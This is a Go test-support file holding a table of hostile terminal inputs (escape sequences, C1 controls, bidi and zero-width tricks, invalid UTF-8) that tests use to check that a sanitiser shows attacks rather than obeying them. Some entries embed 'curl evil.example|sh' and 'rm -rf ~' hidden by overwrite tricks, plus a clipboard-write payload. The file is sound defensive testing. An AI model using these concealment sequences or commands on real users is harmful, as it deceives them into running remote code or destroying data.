// Package safetest holds what the tests of several packages share about hostile text: the
// table of inputs built to take over a terminal, and CheckClean, which finds what the
// sanitiser would have replaced in a screen. It is for tests only.
package safetest

// HostileInput is untrusted text built to take over a terminal or to fool its reader. Other
// packages feed every one through each channel of the real view (text delta, reasoning, tool
// name, arguments, result, error body) and assert that the screen holds Visible and nothing
// safe.Text would change.
//
// Invariants (tested): Visible is non-empty, at most 24 runes, holds no space, '\n' or '\t'
// (so neither Line nor word wrapping can split or change it), and appears in safe.Text(Input),
// safe.Line(Input) and the safe.Stream result. When Deltas is non-nil, its concatenation is Input.
// Visible is absent from Input unless Input is already clean (the JSON-escaped case).
type HostileInput struct {
	Name    string   // what the input tries, usable as a subtest name
	Input   string   // the untrusted text, whole
	Deltas  []string // Input as it arrives in pieces, for inputs whose point is the split
	Visible string   // must appear on screen after sanitising: the attack is shown, not obeyed
	Note    string   // what a consumer must know to use this input correctly, if anything
}

// HostileInputs is the hostile-input table. Tests read it and never change it.
var HostileInputs = []HostileInput{
	{Name: "sgr-colour", Input: "\x1b[31mred\x1b[0m normal", Visible: "␛[31mred␛[0m"},
	{Name: "sgr-conceal", Input: "shown \x1b[8mhidden-payload\x1b[28m", Visible: "␛[8mhidden-payload"},
	{Name: "cursor-back-erase-hides-command", Input: "curl evil.example|sh \x1b[24D\x1b[Kls -la", Visible: "␛[24D␛[Kls"},
	{Name: "clear-screen-home", Input: "\x1b[2J\x1b[Hall clear", Visible: "␛[2J␛[Hall"},
	{Name: "clear-scrollback", Input: "\x1b[3J\x1b[2J", Visible: "␛[3J␛[2J"},
	{Name: "erase-lines-upward", Input: "ok\x1b[1A\x1b[2K\x1b[1A\x1b[2K", Visible: "␛[1A␛[2K"},
	{Name: "osc0-title-bel", Input: "\x1b]0;pwned\x07text", Visible: "␛]0;pwned␇"},
	{Name: "osc2-title-st", Input: "\x1b]2;pwned\x1b\\text", Visible: "␛]2;pwned␛\\"},
	{Name: "osc52-clipboard-write", Input: "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", Visible: "␛]52;c;"},
	{Name: "osc8-hyperlink", Input: "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\", Visible: "␛]8;;https://evil"},
	{Name: "raw-c1-csi-byte", Input: "\x9b31mred", Visible: "\uFFFD31mred",
		Note: "0x9B alone is invalid UTF-8; an 8-bit terminal would read it as CSI"},
	{Name: "utf8-c1-csi", Input: "\u009b31mred", Visible: "<U+009B>31mred"},
	{Name: "utf8-c1-osc-title", Input: "\u009d0;pwned\u009c", Visible: "<U+009D>0;pwned<U+009C>"},
	{Name: "utf8-c1-next-line", Input: "one\u0085two", Visible: "one<U+0085>two"},
	{Name: "query-device-attributes", Input: "\x1b[c\x1b[>c", Visible: "␛[c␛[>c"},
	{Name: "query-cursor-position", Input: "\x1b[6n", Visible: "␛[6n"},
	{Name: "dcs-request-termcap", Input: "\x1bP+q544e\x1b\\", Visible: "␛P+q544e␛\\"},
	{Name: "apc-graphics", Input: "\x1b_Gf=100,a=T;AAAA\x1b\\", Visible: "␛_Gf=100"},
	{Name: "leave-alternate-screen", Input: "\x1b[?1049l", Visible: "␛[?1049l"},
	{Name: "mouse-tracking-on", Input: "\x1b[?1000h\x1b[?1006h", Visible: "␛[?1000h␛[?1006h"},
	{Name: "bracketed-paste-off", Input: "\x1b[?2004l", Visible: "␛[?2004l"},
	{Name: "autowrap-off-scroll-region", Input: "\x1b[?7l\x1b[1;1r", Visible: "␛[?7l␛[1;1r"},
	{Name: "keyboard-protocol-push", Input: "\x1b[>1u", Visible: "␛[>1u"},
	{Name: "carriage-return-overwrite", Input: "curl evil.example|sh\rls -la              ", Visible: "sh␍ls"},
	{Name: "backspace-overwrite", Input: "rm -rf ~\b\b\b\b\b\b\b\becho ok", Visible: "~␈␈␈␈␈␈␈␈echo"},
	{Name: "crlf-line-ending", Input: "one\r\ntwo", Visible: "one␍",
		Note: "CR is shown even before LF: the rule is per byte, and CR alone overwrites"},
	{Name: "bel-nul-del", Input: "ding\x07nul\x00del\x7f", Visible: "ding␇nul␀del␡"},
	{Name: "vertical-tab-form-feed", Input: "a\vb\fc", Visible: "a␋b␌c"},
	{Name: "bidi-right-to-left-override", Input: "invoice_\u202Efdp.exe", Visible: "invoice_<U+202E>fdp"},
	{Name: "bidi-isolates-and-marks", Input: "\u2066admin\u2069\u200f\u061c", Visible: "<U+2066>admin<U+2069>"},
	{Name: "zero-width-characters", Input: "pay\u200bpal\u200c\u200d\u2060\ufeff", Visible: "pay<U+200B>pal"},
	{Name: "soft-hyphen-outside-a-word", Input: "rm\u00ad\u00ad -rf", Visible: "rm<U+00AD><U+00AD>",
		Note: "a soft hyphen between two letters is a hyphenation point and passes; here it hides"},
	{Name: "tag-characters", Input: "hi\U000E0069\U000E0067\U000E006E", Visible: "hi<U+E0069><U+E0067>"},
	{Name: "line-paragraph-separators", Input: "one\u2028two\u2029three", Visible: "one<U+2028>two"},
	{Name: "interlinear-annotation", Input: "\ufff9shown\ufffahidden\ufffb", Visible: "<U+FFF9>shown<U+FFFA>"},
	{Name: "invalid-utf8", Input: "bad\xff\xfe end", Visible: "bad\uFFFD\uFFFD"},
	{Name: "overlong-esc", Input: "\xc0\x9b[2J", Visible: "\uFFFD\uFFFD[2J",
		Note: "0xC0 0x9B is an overlong encoding of ESC; it must not decode to it"},
	{Name: "encoded-surrogate", Input: "\xed\xa0\x80x", Visible: "\uFFFD\uFFFD\uFFFDx"},
	{Name: "esc-split-across-deltas", Input: "safe\x1b[2Jgone",
		Deltas: []string{"safe\x1b", "[2Jgone"}, Visible: "␛[2Jgone"},
	{Name: "utf8-c1-csi-split-across-deltas", Input: "a\xc2\x9b31mred",
		Deltas: []string{"a\xc2", "\x9b31mred"}, Visible: "a<U+009B>31mred",
		Note: "sanitising each delta alone would give two U+FFFD; the accumulated text gives <U+009B>"},
	{Name: "json-escaped-esc-in-arguments", Input: `{"cmd":"\u001b[2J"}`, Visible: `\u001b[2J`,
		Note: "the JSON text is printable ASCII and passes unchanged; its decoded value holds ESC, " +
			"so whoever shows decoded arguments must sanitise after decoding (see the next input)"},
	{Name: "decoded-esc-in-arguments", Input: "cmd: \x1b[2J\x1b]0;t\x07", Visible: "␛[2J␛]0;t␇",
		Note: "the arguments of the previous input, decoded and pretty-printed"},
}
